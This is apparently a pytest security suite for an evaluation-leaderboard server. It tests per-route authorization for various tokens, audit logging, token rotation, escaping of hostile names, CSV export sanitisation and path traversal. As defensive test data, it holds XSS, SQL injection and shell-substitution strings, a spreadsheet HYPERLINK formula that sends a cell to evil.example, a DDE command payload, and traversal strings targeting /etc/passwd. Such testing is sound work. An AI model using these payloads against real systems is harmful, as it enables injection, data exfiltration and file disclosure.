"""Who may do what, on every route of the app: no token, a wrong token, a revoked or
rotated-away token, another team's token, the owner's token and the admin's token, each
tried on each route (the table ``ROUTES`` must name every route the app has: a new route
without a row here fails ``test_every_route_is_in_the_matrix``).

Also: hostile team and method names are stored and returned verbatim and escaped where
rendered (CSV, terminal); path traversal in every id and name reaches no file; nothing of
the ground truth or another team's upload comes back from any route.
"""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Callable, Iterator
from concurrent.futures import ProcessPoolExecutor
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from fastapi.routing import iter_route_contexts
from sqlalchemy import select

from evalserver.client import format_leaderboard, format_status
from evalserver.db.models import AuditEntry, Status, Submission, Team
from evalserver.pages.routes import CSRF_COOKIE, TOKEN_COOKIE
from evalserver.teams import TeamError, create_team, revoke_team, rotate_token
from evalserver.worker.rescore import RESCORE_TASK
from tests.evalserver.server.api_support import (
    TASK,
    Server,
    running_server,
    submission,
    validation_pool,
)
from unify import tasks

__all__ = ["validation_pool"]  # a fixture used here

SEED = itertools.count(5000)
API = "/api/v1"
#: FastAPI's own documentation routes: public by design, they serve no data.
DOC_ROUTES = {"/openapi.json", "/docs", "/docs/oauth2-redirect", "/redoc"}
WHO = ("none", "wrong", "revoked", "other", "owner", "admin")


@pytest.fixture(scope="module")
def server(
    tmp_path_factory: pytest.TempPathFactory,
    tiny_h5: Path,
    validation_pool: ProcessPoolExecutor,
) -> Iterator[Server]:
    """One server for the module (routes are tried on fresh submissions where they change
    something): alpha owns the submissions, beta is the other team, gamma is revoked."""
    data = tmp_path_factory.mktemp("security") / "data"
    with running_server("sqlite", data, tiny_h5, validation_pool) as running:
        with running.sessions() as session:
            gamma, token = create_team(session, "gamma")
            revoke_team(session, gamma)
            running.tokens["gamma"] = token
        yield running


def headers(server: Server, who: str) -> dict[str, str]:
    match who:
        case "none":
            return {}
        case "wrong":
            return {"Authorization": "Bearer not-a-token-of-this-server"}
        case "revoked":
            return server.auth("gamma")
        case "other":
            return server.auth("beta")
        case "owner":
            return server.auth("alpha")
        case _:
            return server.auth("admin")


def new_submission(server: Server, status: Status = Status.scored, public: bool = False) -> str:
    """A submission of alpha's (private by default), set to ``status`` as a worker would;
    its own method name, so that it is its own row on the board."""
    seed = next(SEED)
    response = server.submit("alpha", submission(server.gt_path, seed=seed),
                             public=str(public).lower(), method_name=f"method {seed}")
    assert response.status_code == 201, response.text
    sid = response.json()["id"]
    server.sent()
    with server.sessions() as session:
        row = session.get_one(Submission, sid)
        row.status = status
        if status == Status.scored:
            row.attempts = 1
            row.result = {"metrics": {tasks.get(TASK).primary: 50.0}}
            row.scorer_name, row.scorer_version = "x", "0"
            row.log = (row.log or {}) | {"trace": "Traceback: secret internals"}
        session.commit()
    return sid


@dataclass(frozen=True)
class Case:
    """How to call one route, and the status each credential must get."""

    call: Callable[[Server, dict[str, str]], Any]
    expect: dict[str, int]


def _upload(server: Server, auth: dict[str, str]) -> Any:
    return server.client.post(
        f"{API}/submissions",
        headers=auth,
        files={"file": ("p.json", submission(server.gt_path, seed=next(SEED)), "text/plain")},
        # A "team" field is not a way to upload for another team: it is ignored.
        data={"task": TASK, "team": "alpha", "team_id": "1"},
    )


def _on(method: str, suffix: str = "", status: Status = Status.scored,
        **kwargs: Any) -> Callable[[Server, dict[str, str]], Any]:
    def call(server: Server, auth: dict[str, str]) -> Any:
        sid = new_submission(server, status)
        return server.client.request(method, f"{API}/submissions/{sid}{suffix}", headers=auth,
                                     **kwargs)

    return call


def _plain(method: str, path: str, **kwargs: Any) -> Callable[[Server, dict[str, str]], Any]:
    def call(server: Server, auth: dict[str, str]) -> Any:
        return server.client.request(method, f"{API}{path}", headers=auth, **kwargs)

    return call


def _expect(none: int, wrong: int, other: int, owner: int, admin: int) -> dict[str, int]:
    # A revoked token is a wrong token.
    return {"none": none, "wrong": wrong, "revoked": wrong, "other": other, "owner": owner,
            "admin": admin}


#: (method, path) -> how to call it and what each credential gets. 404 for "not yours":
#: another team's submission and an unknown id get the same answer (ids do not leak).
ROUTES: dict[tuple[str, str], Case] = {
    ("POST", "/submissions"): Case(_upload, _expect(401, 401, 201, 201, 403)),
    ("GET", "/submissions"): Case(_plain("GET", "/submissions"), _expect(401, 401, 200, 200, 403)),
    ("GET", "/submissions/{submission_id}"): Case(_on("GET"), _expect(404, 401, 404, 200, 200)),
    ("PATCH", "/submissions/{submission_id}"): Case(
        _on("PATCH", json={"public": True}), _expect(404, 401, 404, 200, 200)
    ),
    ("POST", "/submissions/{submission_id}/cancel"): Case(
        _on("POST", "/cancel", Status.queued), _expect(404, 401, 404, 200, 200)
    ),
    ("GET", "/submissions/{submission_id}/history"): Case(
        _on("GET", "/history"), _expect(404, 401, 404, 200, 200)
    ),
    ("GET", "/submissions/{submission_id}/log"): Case(
        _on("GET", "/log"), _expect(404, 401, 404, 200, 200)
    ),
    ("POST", "/submissions/{submission_id}/rescore"): Case(
        _on("POST", "/rescore"), _expect(401, 401, 403, 403, 202)
    ),
    ("GET", "/admin/submissions"): Case(
        _plain("GET", "/admin/submissions"), _expect(401, 401, 403, 403, 200)
    ),
    ("POST", "/admin/rescore"): Case(
        _plain("POST", "/admin/rescore", json={"task": "nlvr2"}), _expect(401, 401, 403, 403, 202)
    ),
    ("GET", "/admin/audit"): Case(_plain("GET", "/admin/audit"), _expect(401, 401, 403, 403, 200)),
    ("GET", "/leaderboards/{task}"): Case(
        _plain("GET", f"/leaderboards/{TASK}"), _expect(200, 401, 200, 200, 200)
    ),
    ("GET", "/benchmarks"): Case(_plain("GET", "/benchmarks"), _expect(200, 200, 200, 200, 200)),
    ("GET", "/health"): Case(_plain("GET", "/health"), _expect(200, 200, 200, 200, 200)),
}


# --------------------------------------------------------------------------- pages
CSRF = "c" * 43


def _cookies(auth: dict[str, str]) -> dict[str, str]:
    """The pages' credential is a cookie holding the token (set by /signin), with the
    CSRF cookie every form echoes."""
    token = auth.get("Authorization", "").removeprefix("Bearer ")
    jar = f"{CSRF_COOKIE}={CSRF}" + (f"; {TOKEN_COOKIE}={token}" if token else "")
    return {"Cookie": jar}


def _page(method: str, path: str, **kwargs: Any) -> Callable[[Server, dict[str, str]], Any]:
    def call(server: Server, auth: dict[str, str]) -> Any:
        target = path.format(sid=new_submission(server)) if "{sid}" in path else path
        return server.client.request(method, target, headers=_cookies(auth),
                                     follow_redirects=False, **kwargs)

    return call


def _signin(server: Server, auth: dict[str, str]) -> Any:
    token = auth.get("Authorization", "").removeprefix("Bearer ")
    return server.client.post("/signin", headers={"Cookie": f"{CSRF_COOKIE}={CSRF}"},
                              data={"token": token, "csrf": CSRF}, follow_redirects=False)


def _page_upload(server: Server, auth: dict[str, str]) -> Any:
    return server.client.post(
        "/upload", headers=_cookies(auth), follow_redirects=False,
        files={"file": ("p.json", submission(server.gt_path, seed=next(SEED)), "text/plain")},
        data={"task": TASK, "csrf": CSRF, "team": "alpha"},
    )


BOARD = "/b/tiny/1"
#: A wrong or revoked cookie is anonymous on a page (the page offers sign-in again).
PAGES: dict[tuple[str, str], Case] = {
    ("GET", "/"): Case(_page("GET", "/"), _expect(200, 200, 200, 200, 200)),
    ("GET", "/b/{name}/{version}"): Case(_page("GET", BOARD), _expect(200, 200, 200, 200, 200)),
    ("GET", "/b/{name}/{version}/{task}"): Case(
        _page("GET", f"{BOARD}/{TASK}"), _expect(200, 200, 200, 200, 200)
    ),
    ("GET", "/b/{name}/{version}/export/{kind}"): Case(
        _page("GET", f"{BOARD}/export/csv"), _expect(200, 200, 200, 200, 200)
    ),
    ("GET", "/s/{submission_id}"): Case(_page("GET", "/s/{sid}"), _expect(404, 404, 404, 200, 200)),
    # The submission page's live part: the page's own rules.
    ("GET", "/s/{submission_id}/status"): Case(
        _page("GET", "/s/{sid}/status"), _expect(404, 404, 404, 200, 200)
    ),
    ("GET", "/static/live.js"): Case(
        _page("GET", "/static/live.js"), _expect(200, 200, 200, 200, 200)
    ),
    ("GET", "/signin"): Case(_page("GET", "/signin"), _expect(200, 200, 200, 200, 200)),
    ("POST", "/signin"): Case(_signin, _expect(401, 401, 303, 303, 303)),
    ("POST", "/signout"): Case(
        _page("POST", "/signout", data={"csrf": CSRF}), _expect(303, 303, 303, 303, 303)
    ),
    ("GET", "/upload"): Case(_page("GET", "/upload"), _expect(200, 200, 200, 200, 200)),
    ("POST", "/upload"): Case(_page_upload, _expect(401, 401, 303, 303, 401)),
}
ROUTES |= PAGES


def app_routes(server: Server) -> set[tuple[str, str]]:
    """(method, path) of every route the app answers (a mount, e.g. static files: ``*``)."""
    found = set()
    for route in iter_route_contexts(server.client.app.routes):
        if route.path is None or route.path in DOC_ROUTES:
            continue
        for method in getattr(route, "methods", None) or {"*"}:
            if method != "HEAD":
                found.add((method, route.path.removeprefix(API)))
    return found


def test_every_route_is_in_the_matrix(server: Server) -> None:
    assert app_routes(server) == set(ROUTES)


@pytest.mark.parametrize("who", WHO)
@pytest.mark.parametrize("route", sorted(ROUTES), ids="{0[0]} {0[1]}".format)
def test_route_by_credential(server: Server, route: tuple[str, str], who: str) -> None:
    case = ROUTES[route]
    response = case.call(server, headers(server, who))
    # Health is 503 only without a database; "degraded" (no worker here) is still 200.
    assert response.status_code == case.expect[who], (route, who, response.text)


def test_another_team_cannot_see_change_cancel_or_read_private_work(server: Server) -> None:
    private = new_submission(server, Status.scored, public=False)
    queued = new_submission(server, Status.queued)
    beta = server.auth("beta")
    client = server.client
    # Private entries: not on beta's (or anyone's) view of the board, nor in beta's list.
    for who in ({}, beta):
        rows = client.get(f"{API}/leaderboards/{TASK}", headers=who).json()["rows"]
        assert all(r.get("submission_id") != private for r in rows)
        assert not any(r["team"] == "alpha" and not r["public"] for r in rows)
    listed = client.get(f"{API}/submissions", headers=beta).json()
    assert {r["id"] for r in listed}.isdisjoint({private, queued})
    admin_rows = client.get(f"{API}/leaderboards/{TASK}", headers=server.auth("admin")).json()
    assert private in {r.get("submission_id") for r in admin_rows["rows"]}
    # Nothing beta tries changes alpha's rows.
    assert client.post(f"{API}/submissions/{queued}/cancel", headers=beta).status_code == 404
    for body in ({"public": True}, {"baseline": True}, {"hidden": True}):
        assert client.patch(f"{API}/submissions/{private}", headers=beta,
                            json=body).status_code == 404
    with server.sessions() as session:
        row = session.get_one(Submission, private)
        assert (row.is_public, row.is_baseline, row.is_hidden) == (False, False, False)
        assert session.get_one(Submission, queued).status == Status.queued
    # An upload with beta's token is beta's, whatever the form says.
    response = _upload(server, beta)
    assert response.status_code == 201 and response.json()["team"] == "beta"


def test_the_owner_cannot_act_as_admin(server: Server) -> None:
    sid = new_submission(server)
    for body, word in (({"baseline": True}, "baseline"), ({"hidden": True}, "hides")):
        response = server.client.patch(f"{API}/submissions/{sid}", headers=server.auth("alpha"),
                                       json=body)
        assert response.status_code == 403 and word in response.text
    log = server.client.get(f"{API}/submissions/{sid}/log", headers=server.auth("alpha")).json()
    assert log["trace"] is None and log["audit"] is None  # the trace is the admin's
    assert log["validation"]["ok"] is True and log["validation"]["against"].startswith(TASK)
    admin = server.client.get(f"{API}/submissions/{sid}/log", headers=server.auth("admin")).json()
    assert admin["trace"] == "Traceback: secret internals"


def test_rotating_a_token_retires_the_old_one_and_revoking_refuses_it(server: Server) -> None:
    with server.sessions() as session:
        team, first = create_team(session, "delta")
        second = rotate_token(session, team)
    assert first != second

    def who_am_i(token: str) -> int:
        return server.client.get(f"{API}/submissions",
                                 headers={"Authorization": f"Bearer {token}"}).status_code

    assert (who_am_i(first), who_am_i(second)) == (401, 200)
    with server.sessions() as session:
        team = session.scalars(select(Team).where(Team.name == "delta")).one()
        assert second not in (team.token_hash,) and len(team.token_hash) == 64  # a hash
        assert revoke_team(session, team) is True
        assert revoke_team(session, team) is False  # once
    assert who_am_i(second) == 401
    with server.sessions() as session:
        team = session.scalars(select(Team).where(Team.name == "delta")).one()
        third = rotate_token(session, team)  # lifts the revocation
    assert who_am_i(third) == 200 and who_am_i(second) == 401


def test_admin_actions_are_audited(server: Server) -> None:
    sid = new_submission(server)
    queued = new_submission(server, Status.queued)
    admin = server.auth("admin")
    client = server.client
    assert client.patch(f"{API}/submissions/{sid}", headers=admin,
                        json={"hidden": True, "baseline": True}).status_code == 200
    assert client.post(f"{API}/submissions/{queued}/cancel", headers=admin).status_code == 200
    assert client.post(f"{API}/submissions/{queued}/cancel", headers=admin).status_code == 409
    assert client.post(f"{API}/submissions/{sid}/rescore", headers=admin).status_code == 202
    again = client.post(f"{API}/submissions/{sid}/rescore", headers=admin)
    assert again.status_code == 200 and again.json()["status"] == "queued"  # the pending one
    sent = [m["body"][0] for m in server.sent() if m["headers"]["task"] == RESCORE_TASK]
    assert sent == [[again.json()["id"]]]  # sent once
    # In bulk: the stale ones of the board (scored by version "0"); sid's is pending.
    fresh = new_submission(server)
    bulk = client.post(f"{API}/admin/rescore", headers=admin,
                       json={"task": TASK, "stale": True, "reason": "bulk"}).json()
    assert fresh in {r["submission_id"] for r in bulk["queued"]}
    # (earlier tests of the module may have left re-scores pending too)
    assert sid in {r["submission_id"] for r in bulk["pending"]}
    assert all(r["reason"] == "bulk" for r in bulk["queued"])
    rescores = [m for m in server.sent() if m["headers"]["task"] == RESCORE_TASK]
    assert len(rescores) == len(bulk["queued"])
    # The owner's own changes are not admin actions.
    assert client.patch(f"{API}/submissions/{sid}", headers=server.auth("alpha"),
                        json={"public": True}).status_code == 200
    with server.sessions() as session:
        got = sorted(
            (e.submission_id, e.action, e.actor)
            for e in session.scalars(
                select(AuditEntry).where(AuditEntry.submission_id.in_([sid, queued]))
            )
        )
    assert got == sorted([
        (sid, "hide", "admin (api)"),
        (sid, "mark baseline", "admin (api)"),
        (sid, "rescore", "admin (api)"),
        (queued, "cancel", "admin (api)"),
    ])
    listed = client.get(f"{API}/admin/audit", headers=admin, params={"submission_id": sid}).json()
    assert {e["action"] for e in listed} == {"hide", "mark baseline", "rescore"}
    # Hidden: on no board, not even the admin's; its team still sees the submission.
    for who in ("admin", "alpha"):
        rows = client.get(f"{API}/leaderboards/{TASK}", headers=server.auth(who)).json()["rows"]
        assert sid not in {r.get("submission_id") for r in rows}
    mine = client.get(f"{API}/submissions/{sid}", headers=server.auth("alpha")).json()
    assert mine["hidden"] is True and mine["baseline"] is True


# --------------------------------------------------------------------------- hostile names

HOSTILE = [
    "<script>alert('x')</script>",
    "Robert'); DROP TABLE teams;--",
    '" OR 1=1 -- & <b>bold</b>',
    "tab\there, new\nline, cr\r",
    "bell\x07 esc\x1b[31mred\x1b[0m del\x7f c1\x85",
    "%s %(name)s {0} $(rm -rf /) `id`",
    "ünïcödé 🦀 \u202eevil",
]


@pytest.fixture(params=["sqlite", "postgresql"])
def fresh(
    request: pytest.FixtureRequest, tmp_path: Path, tiny_h5: Path,
    validation_pool: ProcessPoolExecutor,
) -> Iterator[Server]:
    with running_server(request.param, tmp_path / "data", tiny_h5, validation_pool) as running:
        yield running


def test_hostile_names_are_kept_verbatim_and_escaped_where_rendered(fresh: Server) -> None:
    server = fresh
    ids = {}
    with server.sessions() as session:
        for name in HOSTILE:
            server.tokens[name] = create_team(session, name)[1]
    for i, name in enumerate(HOSTILE):
        response = server.submit(name, submission(server.gt_path, seed=next(SEED)),
                                 name=f"{name}.json", method_name=name, description=name)
        assert response.status_code == 201, response.text
        body = response.json()
        assert (body["team"], body["method_name"], body["description"]) == (name, name, name)
        ids[body["id"]] = name
        with server.sessions() as session:
            row = session.get_one(Submission, body["id"])
            row.status, row.result = Status.scored, {"metrics": {tasks.get(TASK).primary: i}}
            session.commit()
    with server.sessions() as session:  # the SQL metacharacters did nothing
        assert {t.name for t in session.scalars(select(Team))} >= set(HOSTILE)
    for sid, name in ids.items():
        got = server.client.get(f"{API}/submissions/{sid}", headers=server.auth(name)).json()
        # (the file name is the client's to encode: httpx writes '"' as %22, per HTML5)
        assert (got["team"], got["method_name"], got["description"]) == (name, name, name)
    board = server.client.get(f"{API}/leaderboards/{TASK}").json()
    assert {(r["team"], r["method_name"]) for r in board["rows"]} == {(n, n) for n in HOSTILE}
    # CSV: quoted as CSV quotes, read back verbatim.
    text = server.client.get(f"{API}/leaderboards/{TASK}", params={"format": "csv"}).text
    _, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert {(r[1], r[2]) for r in rows} == {(n, n) for n in HOSTILE}
    # A page: HTML-escaped (the board lists every team and method name).
    html = server.client.get(f"/b/tiny/1/{TASK}").text
    assert "<script>alert" not in html and "&lt;script&gt;alert(" in html
    assert "<b>bold</b>" not in html and "&lt;b&gt;bold&lt;/b&gt;" in html
    # A terminal: no raw control character reaches it, each shown as an escape.
    table = format_leaderboard(board)
    assert not any(c in table for c in "\x07\x1b\x7f\x85\r\t")
    assert "esc\\x1b[31mred" in table and "new\\nline" in table
    status = format_status(got)
    assert "\x1b" not in status


FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tcmd|' /C calc'!A0",
    "\r=1+1",
]


def test_csv_exports_cannot_carry_a_formula_and_numbers_stay_numbers(fresh: Server) -> None:
    """Team and method names that a spreadsheet would run as formulas are prefixed with a
    quote in both CSV exports (the API's board, the pages' benchmark export); a negative
    metric is still an unquoted number; JSON keeps every name verbatim."""
    server = fresh
    primary = tasks.get(TASK).primary
    expected = {}
    with server.sessions() as session:
        for name in FORMULAS:
            server.tokens[name] = create_team(session, name)[1]
    for i, name in enumerate(FORMULAS):
        response = server.submit(name, submission(server.gt_path, seed=next(SEED)),
                                 method_name=name)
        assert response.status_code == 201, response.text
        with server.sessions() as session:
            row = session.get_one(Submission, response.json()["id"])
            row.status, row.result = Status.scored, {"metrics": {primary: -0.25 - i}}
            session.commit()
        expected["'" + name] = -0.25 - i
    # API CSV, read as a spreadsheet does: unquoted cells are numbers, quoted ones text.
    text = server.client.get(f"{API}/leaderboards/{TASK}", params={"format": "csv"}).text
    header, *rows = list(csv.reader(io.StringIO(text, newline=""),
                                    quoting=csv.QUOTE_NONNUMERIC))
    column = header.index(primary)
    got = {r[1]: (r[2], r[column]) for r in rows}
    precision = tasks.get(TASK).column(primary).precision
    assert got == {name: (name, round(v, precision)) for name, v in expected.items()}
    assert all(isinstance(r[0], float) for r in rows)  # the rank: a number too
    # The pages' export: the same cells, the value a plain number.
    text = server.client.get("/b/tiny/1/export/csv").text
    header, *rows = list(csv.reader(io.StringIO(text, newline=""),
                                    quoting=csv.QUOTE_NONNUMERIC))
    at = {h: header.index(h) for h in ("task", "team", "method", "column", "value")}
    mine = {r[at["team"]]: (r[at["method"]], r[at["value"]]) for r in rows
            if r[at["task"]] == TASK and r[at["column"]] == primary}
    assert mine == {name: (name, v) for name, v in expected.items()}
    # No cell of either export starts with a formula character.
    for line in csv.reader(io.StringIO(text, newline="")):
        for cell in line:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
    # JSON: verbatim.
    board = server.client.get(f"{API}/leaderboards/{TASK}").json()
    assert {(r["team"], r["method_name"]) for r in board["rows"]} == {(n, n) for n in FORMULAS}
    exported = server.client.get("/b/tiny/1/export/json").json()
    assert {r["team"] for r in exported["boards"] if r["task"] == TASK} == set(FORMULAS)


def test_names_that_cannot_be_stored_are_refused_by_name(fresh: Server) -> None:
    for name in ("", "   ", "nul\x00byte", "x" * 201):
        with fresh.sessions() as session, pytest.raises(TeamError, match="team name"):
            create_team(session, name)
        response = fresh.submit("alpha", submission(fresh.gt_path, seed=next(SEED)),
                                method_name=name)
        if "\x00" in name or len(name) > 200:  # an empty method name is allowed
            assert response.status_code == 422 and "method_name" in response.text
        else:
            assert response.status_code == 201
        with fresh.sessions() as session:  # a refused name left nothing half-made
            assert {t.name for t in session.scalars(select(Team))} == {"alpha", "beta"}


# --------------------------------------------------------------------------- traversal

TRAVERSAL = [
    "..",
    "../../vl12.db",
    "..%2F..%2Fvl12.db",
    "%2e%2e%2f%2e%2e%2fvl12.db",
    "..%252F..%252Fvl12.db",
    "....//....//vl12.db",
    "..\\..\\vl12.db",
    "/etc/passwd",
    "%2Fetc%2Fpasswd",
    "benchmarks",
    "uploads",
    "vqa2/../../benchmarks",
    "' OR '1'='1",
    "nul%00byte",
]


def _secrets(server: Server, other_upload: bytes) -> list[bytes]:
    """Bytes no answer may hold: an HDF5 file (the ground truth), the data dir's path, the
    database file's header, another team's upload."""
    return [b"\x89HDF", str(server.settings.data_dir).encode(), b"SQLite format 3",
            other_upload[:64]]


def _files(server: Server) -> set[Path]:
    return {p for p in server.settings.data_dir.rglob("*") if p.is_file()}


def test_path_traversal_in_every_id_and_name_reaches_no_file(server: Server) -> None:
    other = submission(server.gt_path, seed=next(SEED))
    assert server.submit("beta", other).status_code == 201
    server.sent()
    secrets = _secrets(server, other)
    before = _files(server)
    client = server.client
    content = submission(server.gt_path, seed=next(SEED))
    tried = 0
    for bad in TRAVERSAL:
        for who in ("alpha", "admin"):
            auth = server.auth(who)
            answers = [
                client.get(f"{API}/submissions/{bad}", headers=auth),
                client.patch(f"{API}/submissions/{bad}", headers=auth, json={"public": True}),
                client.post(f"{API}/submissions/{bad}/cancel", headers=auth),
                client.get(f"{API}/submissions/{bad}/history", headers=auth),
                client.get(f"{API}/submissions/{bad}/log", headers=auth),
                client.post(f"{API}/submissions/{bad}/rescore", headers=auth),
                client.get(f"{API}/leaderboards/{bad}", headers=auth),
                client.get(f"{API}/leaderboards/{TASK}", headers=auth, params={"phase": bad}),
                client.get(f"{API}/leaderboards/{TASK}", headers=auth, params={"benchmark": bad}),
                client.get(f"{API}/submissions", headers=auth,
                           params={"task": bad, "phase": bad}),
                client.get(f"{API}/admin/submissions", headers=auth,
                           params={"team": bad, "task": bad}),
                client.get(f"{API}/admin/audit", headers=auth, params={"submission_id": bad}),
                client.post(f"{API}/admin/rescore", headers=auth,
                            json={"ids": [bad], "task": bad, "benchmark": bad}),
                client.get(f"/{bad}", headers=auth),
                client.get(f"/s/{bad}", headers=_cookies(auth)),
                client.get(f"/s/{bad}/status", headers=_cookies(auth)),
                client.get(f"/b/{bad}/1", headers=_cookies(auth)),
                client.get(f"/b/tiny/1/{bad}", headers=_cookies(auth)),
                client.get(f"/b/tiny/1/export/{bad}", headers=_cookies(auth)),
                client.get(f"{API}/{bad}", headers=auth),
            ]
            if who == "alpha":  # an upload naming a board by a path: no board
                answers.extend(
                    server.client.post(
                        f"{API}/submissions", headers=auth,
                        files={"file": (bad, content, "x/y")},
                        data={"task": TASK, "method_name": bad} | {field: bad},
                    )
                    for field in ("task", "phase", "benchmark")
                )
            for response in answers:
                tried += 1
                assert response.status_code != 500, (bad, response.request.url)
                for secret in secrets:
                    assert secret not in response.content, (bad, response.request.url)
                if response.status_code == 200 and who == "alpha":  # only alpha's own rows
                    assert b'"team":"beta"' not in response.content, response.request.url
    # An upload named like a path is stored under the server's own name.
    response = server.submit("alpha", submission(server.gt_path, seed=next(SEED)),
                             name="../../../../benchmarks/evil.h5")
    assert response.status_code == 201
    sid = response.json()["id"]
    assert response.json()["original_name"] == "../../../../benchmarks/evil.h5"
    made = _files(server) - before
    uploads = server.settings.uploads_dir.resolve()
    assert made and all(p.resolve().is_relative_to(uploads) or p.name.startswith("vl12.db")
                        or p.name.startswith("broker") for p in made), made
    assert {p.name for p in (uploads / sid).iterdir()} == {"upload", "validated.npz"}
    assert tried > 100
